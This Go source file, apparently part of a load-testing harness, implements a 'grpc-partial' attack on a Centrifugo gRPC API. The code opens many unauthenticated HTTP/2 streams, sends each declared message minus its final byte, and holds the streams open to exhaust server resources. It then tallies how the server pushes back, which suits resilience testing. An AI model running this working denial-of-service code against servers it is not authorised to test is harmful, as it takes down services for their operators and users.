package loadgen

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// grpcPublishPath is the method the client called.
const grpcPublishPath = "/centrifugal.centrifugo.api.CentrifugoApi/Publish"

// partialTally counts what the server did with the partial messages.
type partialTally struct {
	streams, ended                 atomic.Int64 // opened, ended by the server
	rst, trailers, goaway, refused atomic.Int64 // frames seen
	sent                           atomic.Int64 // message bytes
	status                         atomic.Value // the first grpc-status and message seen
}

// attackGRPCPartial opens cfg.GRPCConns HTTP/2 connections to the gRPC
// API with cfg.GRPCStreams streams each, without an API key, declares a
// message of cfg.GRPCMessage bytes on every stream and sends all of it
// but its last byte as fast as flow control lets it, then holds until
// ctx ends. A gRPC library would not send this, hence the raw framer.
func attackGRPCPartial(ctx context.Context, cfg AttackConfig, _ func(string)) (string, error) {
	if cfg.GRPCAddr == "" || cfg.GRPCConns < 1 || cfg.GRPCStreams < 1 || cfg.GRPCMessage < 2 {
		return "", fmt.Errorf("%w: grpc-partial needs a gRPC address, connections, streams and a message of 2 bytes or more", errAttackConfig)
	}
	var t partialTally
	var wg sync.WaitGroup
	errs := make(chan error, cfg.GRPCConns)
	for range cfg.GRPCConns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := partialConn(ctx, cfg, &t); err != nil {
				errs <- err
			}
		}()
	}
	wg.Wait()
	close(errs)
	var first error
	failed := 0
	for err := range errs {
		failed++
		if first == nil {
			first = err
		}
	}
	ended := t.ended.Load()
	out := fmt.Sprintf("%d streams on %d connections (%d failed), %.1f MiB of %d-byte messages sent; the server ended %d (frames: RST_STREAM %d, of them REFUSED_STREAM %d; trailers %d), GOAWAY on %d connections; %d held to the end",
		t.streams.Load(), cfg.GRPCConns, failed, float64(t.sent.Load())/(1<<20), cfg.GRPCMessage,
		ended, t.rst.Load(), t.refused.Load(), t.trailers.Load(), t.goaway.Load(), max(0, t.streams.Load()-ended))
	if s, ok := t.status.Load().(string); ok {
		out += "; first status: " + s
	}
	return out, first
}

// h2state is one connection's flow-control view.
type h2state struct {
	mu        sync.Mutex
	wmu       sync.Mutex // the framer's writes
	fr        *http2.Framer
	connWin   int64
	initWin   int64
	streamWin map[uint32]int64
	remaining map[uint32]int // message bytes left to send; gone when ended
	started   map[uint32]bool
	size      int // the declared message size
	goaway    bool
	wake      chan struct{}
	maxFrame  int
	headerBuf bytes.Buffer
	headerEnc *hpack.Encoder
}

func (h *h2state) notify() {
	select {
	case h.wake <- struct{}{}:
	default:
	}
}

func partialConn(ctx context.Context, cfg AttackConfig, t *partialTally) error {
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", cfg.GRPCAddr)
	if err != nil {
		return fmt.Errorf("grpc-partial: dial %s: %w", cfg.GRPCAddr, err)
	}
	// Closing the socket ends both loops, whatever they wait on.
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	defer c.Close()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return fmt.Errorf("grpc-partial: preface: %w", err)
	}
	h := &h2state{
		fr: http2.NewFramer(c, c), connWin: 65535, initWin: 65535,
		streamWin: map[uint32]int64{}, remaining: map[uint32]int{}, started: map[uint32]bool{}, size: cfg.GRPCMessage, wake: make(chan struct{}, 1), maxFrame: 16384,
	}
	h.headerEnc = hpack.NewEncoder(&h.headerBuf)
	if err := h.fr.WriteSettings(); err != nil {
		return fmt.Errorf("grpc-partial: settings: %w", err)
	}
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		h.read(t)
	}()
	defer func() { c.Close(); <-readDone }()
	for i := range cfg.GRPCStreams {
		id := uint32(2*i + 1)
		if err := h.open(id); err != nil {
			return nilIfDone(ctx, fmt.Errorf("grpc-partial: open stream %d: %w", id, err))
		}
		t.streams.Add(1)
	}
	zeros := make([]byte, h.maxFrame)
	for {
		id, n, prefix := h.next()
		if n == 0 {
			// Nothing may go now: wait for a window update, the end of a
			// stream, or the end of the attack.
			select {
			case <-ctx.Done():
				return nil
			case <-readDone:
				return nil
			case <-h.wake:
				continue
			}
		}
		chunk := zeros[:n]
		if prefix != nil {
			chunk = prefix
		}
		h.wmu.Lock()
		err := h.fr.WriteData(id, false, chunk)
		h.wmu.Unlock()
		if err != nil {
			return nilIfDone(ctx, fmt.Errorf("grpc-partial: data on stream %d: %w", id, err))
		}
		t.sent.Add(int64(len(chunk)))
	}
}

// open sends a call's headers without an API key and notes the message
// to send: its 5-byte gRPC prefix declaring h.size bytes, then all but
// the last of them.
func (h *h2state) open(id uint32) error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	h.headerBuf.Reset()
	for _, f := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", grpcPublishPath}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		if err := h.headerEnc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	h.mu.Lock()
	h.streamWin[id] = h.initWin
	h.remaining[id] = 5 + h.size - 1
	h.mu.Unlock()
	return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.headerBuf.Bytes(), EndHeaders: true})
}

// next picks a stream that may send now and how much; prefix, when not
// nil, is the message's gRPC prefix to send first.
func (h *h2state) next() (id uint32, n int, prefix []byte) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.goaway {
		return 0, 0, nil
	}
	for sid, left := range h.remaining {
		win := min(h.connWin, h.streamWin[sid])
		if left == 0 || win <= 0 {
			continue
		}
		if !h.started[sid] {
			if win < 5 {
				continue
			}
			// Compressed flag 0, then the declared length: one byte
			// more than will come.
			h.started[sid] = true
			prefix = make([]byte, 5)
			binary.BigEndian.PutUint32(prefix[1:], uint32(h.size))
			n = 5
		} else {
			n = int(min(int64(left), win, int64(h.maxFrame)))
		}
		h.remaining[sid] = left - n
		h.connWin -= int64(n)
		h.streamWin[sid] -= int64(n)
		return sid, n, prefix
	}
	return 0, 0, nil
}

// read handles the server's frames until the connection ends.
func (h *h2state) read(t *partialTally) {
	dec := hpack.NewDecoder(4096, nil)
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if f.IsAck() {
				continue
			}
			h.mu.Lock()
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
				delta := int64(v) - h.initWin
				h.initWin = int64(v)
				for id := range h.streamWin {
					h.streamWin[id] += delta
				}
			}
			if v, ok := f.Value(http2.SettingMaxFrameSize); ok && int(v) < h.maxFrame {
				h.maxFrame = int(v)
			}
			h.mu.Unlock()
			h.wmu.Lock()
			_ = h.fr.WriteSettingsAck()
			h.wmu.Unlock()
		case *http2.WindowUpdateFrame:
			h.mu.Lock()
			if f.StreamID == 0 {
				h.connWin += int64(f.Increment)
			} else if _, ok := h.streamWin[f.StreamID]; ok {
				h.streamWin[f.StreamID] += int64(f.Increment)
			}
			h.mu.Unlock()
		case *http2.RSTStreamFrame:
			t.rst.Add(1)
			if f.ErrCode == http2.ErrCodeRefusedStream {
				t.refused.Add(1)
			}
			h.end(f.StreamID, t)
		case *http2.HeadersFrame:
			fields, _ := dec.DecodeFull(f.HeaderBlockFragment())
			status, msg := "", ""
			for _, hf := range fields {
				switch hf.Name {
				case "grpc-status":
					status = hf.Value
				case "grpc-message":
					msg = hf.Value
				}
			}
			if status != "" {
				t.status.CompareAndSwap(nil, "grpc-status "+status+" "+msg)
			}
			if f.StreamEnded() {
				t.trailers.Add(1)
				h.end(f.StreamID, t)
			}
		case *http2.GoAwayFrame:
			t.goaway.Add(1)
			h.mu.Lock()
			h.goaway = true
			h.mu.Unlock()
		case *http2.PingFrame:
			if !f.IsAck() {
				h.wmu.Lock()
				_ = h.fr.WritePing(true, f.Data)
				h.wmu.Unlock()
			}
		}
		h.notify()
	}
}

// end notes that the server ended stream id (trailers, then often an
// RST_STREAM, end the same stream: it counts once).
func (h *h2state) end(id uint32, t *partialTally) {
	h.mu.Lock()
	if _, open := h.streamWin[id]; open {
		t.ended.Add(1)
	}
	delete(h.remaining, id)
	delete(h.streamWin, id)
	h.mu.Unlock()
}

// nilIfDone drops err when ctx ended: a write cut by the end of the
// attack is not a failure.
func nilIfDone(ctx context.Context, err error) error {
	if ctx.Err() != nil {
		return nil
	}
	return err
}
